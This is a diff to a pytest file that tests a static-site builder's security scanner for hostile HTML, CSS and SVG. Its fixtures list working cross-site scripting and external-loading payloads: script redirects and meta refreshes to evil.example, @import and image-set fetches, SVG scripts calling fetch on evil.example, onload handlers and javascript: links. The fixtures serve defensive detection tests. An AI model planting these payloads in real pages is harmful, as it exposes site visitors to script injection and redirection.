@@ -352,6 +352,19 @@ HAND_WRITTEN = {
     "entity-js": '<a href="&#106;ava&#x73;cript:alert(1)">x</a>',
     "svg-script": '<svg><script>alert(1)</script></svg>',
     "slash-attr": '<img/src=//evil.example/x.gif>',
+    "redirect-script": '<script>window.location.replace(["//evil.example/x",window.location.search,'
+                       'window.location.hash].join(""))</script>',
+    "refresh-no-url": '<meta http-equiv="refresh" content="0;https://evil.example/">',
+    "refresh-comma": '<meta http-equiv="refresh" content="0, //evil.example/">',
+    "refresh-quoted": """<meta http-equiv="refresh" content="1.5 ; URL = 'javascript:alert(1)'">""",
+    "import-no-space": '<style>@import"http://evil.example/a.css";</style>',
+    "import-url": "<style>@import url(//evil.example/a.css);</style>",
+    "image-set": "<style>p { background: image-set('http://evil.example/a.png' 1x) }</style>",
+    "webkit-image-set": '<style>p { background: -webkit-image-set("a.png" 1x, "//evil.example/b.png" 2x) }</style>',
+    "td-background": '<table><tr><td background="http://evil.example/a.png">x</td></tr></table>',
+    "div-background": '<div background="//evil.example/a.png">x</div>',
+    "svg-set-href": '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
+    "svg-animate-values": '<svg><a><animate attributeName="x" values="0;javascript:alert(1)"/></a></svg>',
 }
 
 
@@ -404,6 +417,122 @@ def test_the_scan_reads_a_folder(tmp_path):
     assert len(findings) == 4
 
 
+HOSTILE_SVG = {
+    "prefixed-script": '<svg xmlns="http://www.w3.org/2000/svg"><x:script xmlns:x="http://www.w3.org/2000/svg">'
+                       'fetch("http://evil.example/")</x:script></svg>',
+    "cdata-script": '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[fetch("http://evil.example/")]]>'
+                    '</script></svg>',
+    "xhtml-script": '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><h:script '
+                    'xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></foreignObject></svg>',
+    "handler": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+    "xlink-js": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink">'
+                '<a l:href="javascript:alert(1)"><text>x</text></a></svg>',
+    "xlink-image": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink">'
+                   '<image l:href="https://evil.example/a.png"/></svg>',
+    "set-href": '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:alert(1)"/>'
+                '<text>x</text></a></svg>',
+    "doctype": '<!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
+    "stylesheet-pi": '<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/a.xsl"?>'
+                     '<svg xmlns="http://www.w3.org/2000/svg"/>',
+    "not-well-formed": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</svg>',
+}
+
+
+@pytest.mark.parametrize("svg", list(HOSTILE_SVG.values()), ids=list(HOSTILE_SVG))
+def test_the_scan_fails_a_build_with_a_hostile_svg_in_docs(runner, make_framework, tmp_path, monkeypatch, svg):
+    monkeypatch.chdir(tmp_path)
+    root = make_framework()
+    _with_docs(tmp_path, root, {"notes.md": "# Notes\n\n![x](evil.svg)\n", "evil.svg": svg})
+    result = build(runner, root, tmp_path / "site")
+    assert result.exit_code == 1, result.output
+    assert "\n  evil.svg: " in result.output and "Traceback" not in result.output
+    assert not (tmp_path / "site").exists()
+
+
+def test_a_plain_svg_in_docs_passes_the_scan(runner, make_framework, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    root = make_framework()
+    svg = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
+           'xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"><style>rect { fill: red }</style>'
+           '<a xlink:href="https://ok.example/"><rect width="5" height="5"/></a>'
+           '<animate attributeName="x" from="0" to="10"/></svg>')
+    _with_docs(tmp_path, root, {"notes.md": "# Notes\n\n![x](plain.svg)\n", "plain.svg": svg})
+    result = build(runner, root, tmp_path / "site")
+    assert result.exit_code == 0, result.output
+    assert (tmp_path / "site/plain.svg").read_text() == svg
+    assert (tmp_path / "site/sitemap.xml").read_text().startswith("<?xml")
+
+
+_REDIRECT = '<script>window.location.replace(["{}",window.location.search,window.location.hash].join(""))</script>'
+
+
+@pytest.mark.parametrize(("snippet", "found"), [
+    (_REDIRECT.format("../new-page/"), False),
+    (_REDIRECT.format("new-page/#part?x=1"), False),
+    (_REDIRECT.format("//evil.example/x"), True),
+    (_REDIRECT.format("https://evil.example/x"), True),
+    (_REDIRECT.format("/\\evil.example/x"), True),
+    (_REDIRECT.format("\\\\evil.example/x"), True),
+    (_REDIRECT.format("javascript:alert(1)"), True),
+    ('<meta http-equiv="refresh" content="0;url=../new-page/">', False),
+    ('<meta http-equiv="refresh" content="5">', False),
+    ('<meta http-equiv="refresh" content="0;https://evil.example/">', True),
+    ('<meta http-equiv="refresh" content="0, //evil.example/">', True),
+    ('<meta http-equiv="refresh" content="0 //evil.example/">', True),
+    ("""<meta http-equiv="Refresh" content="0; url = '//evil.example/'">""", True),
+    ('<meta http-equiv="refresh" content="0;URL=data:text/html,x">', True),
+    ('<style>@import"http://evil.example/a.css";</style>', True),
+    ("<style>@import'//evil.example/a.css';</style>", True),
+    ('<style>@import url("//evil.example/a.css");</style>', True),
+    ("<style>@import 'local.css';</style>", False),
+    ("<style>p { background: image-set('http://evil.example/a.png' 1x) }</style>", True),
+    ('<style>p { background: -webkit-image-set("a.png" 1x, "//evil.example/b.png" 2x) }</style>', True),
+    ("<style>p { background: image-set('a.png' 1x, url(//evil.example/b.png) 2x) }</style>", True),
+    ("<style>p { background: image-set('java\\73 cript:x' 1x) }</style>", True),
+    ("<style>p { background: image-set('a.png' 1x, \"b.png\" 2x) }</style>", False),
+    ('<table><tr><td background="http://evil.example/a.png">x</td></tr></table>', True),
+    ('<table><tr><th background="//evil.example/a.png">x</th></tr></table>', True),
+    ('<p background="https://evil.example/a.png">x</p>', True),
+    ('<table><tr><td background="a.png">x</td></tr></table>', False),
+    ('<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>', True),
+    ('<svg><a><set attributeName="xlink:href" to="../x/"/></a></svg>', True),
+    ('<svg><a><animate attributeName="x" values="0; javascript:alert(1)"/></a></svg>', True),
+    ('<svg><a><animate attributeName="y" from="JavaScript:alert(1)"/></a></svg>', True),
+    ('<svg><animate attributeName="x" from="0" to="10"/></svg>', False),
+])
+def test_the_scanner_judges_a_page(snippet, found):
+    assert bool(output_scan._Scanner(TRUST, "", None, None, inline_scripts=True).scan(snippet)) is found
+
+
+@pytest.mark.parametrize(("svg", "found"), [
+    *((s, True) for s in HOSTILE_SVG.values()),
+    ('<svg xmlns="http://www.w3.org/2000/svg"><a href="https://ok.example/"><text>x</text></a></svg>', False),
+    ('<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
+     "<url><loc>https://h.example/roles/</loc></url></urlset>", False),
+    ('<svg xmlns="http://www.w3.org/2000/svg"><!-- <!DOCTYPE x> --></svg>', True),  # fails closed
+    ('<svg xmlns="http://www.w3.org/2000/svg"><h:iframe xmlns:h="http://www.w3.org/1999/xhtml" '
+     'src="//evil.example/"/></svg>', True),
+    ('<svg xmlns="http://www.w3.org/2000/svg"><style>@import"//evil.example/a.css";</style></svg>', True),
+    ('<svg xmlns="http://www.w3.org/2000/svg"><g style="fill: url(https://evil.example/#p)"/></svg>', True),
+    ("<svg", True),
+])
+def test_the_scanner_reads_svg_and_xml_as_xml(svg, found):
+    assert bool(output_scan._Scanner(TRUST, "", None, None, inline_scripts=False).scan_xml(svg)) is found
+
+
+def test_the_scan_names_what_an_svg_file_holds(tmp_path):
+    (tmp_path / "a.svg").write_text(HOSTILE_SVG["prefixed-script"])
+    (tmp_path / "b.svg").write_text(HOSTILE_SVG["doctype"])
+    (tmp_path / "c.xml").write_text("<a><b></a>")
+    (tmp_path / "d.svg").write_text(HOSTILE_SVG["xlink-image"])
+    findings = [str(f) for f in output_scan.scan(tmp_path, output_scan.Trust())]
+    assert findings[0] == 'a.svg: <script>fetch("http://evil.example/")'
+    assert findings[1].startswith("b.svg: <!DOCTYPE (a document type")
+    assert findings[2].startswith("c.xml: not well-formed XML (mismatched tag: line 1, column 8)")
+    assert findings[3] == 'd.svg: <image xlink:href="https://evil.example/a.png">'
+    assert len(findings) == 4
+
+
 # --- docs/ hygiene -------------------------------------------------------------------------------------
 
 def test_docs_publishes_only_pages_and_assets_and_lists_them_in_the_nav(runner, make_framework, tmp_path,
@@ -441,7 +570,7 @@ def test_a_hand_written_page_at_a_generated_url_is_an_error(runner, make_framewo
     _with_docs(tmp_path, root, {page: "# Mine\n"})
     result = build(runner, root, tmp_path / "site")
     assert result.exit_code == 1
-    assert f"docs/{page}: error[docs-collision]" in result.output
+    assert f"docs/{page}:1:1: error[docs-collision]" in result.output
     assert f"spm-site generates as {generated}" in result.output
     assert "Traceback" not in result.output
 
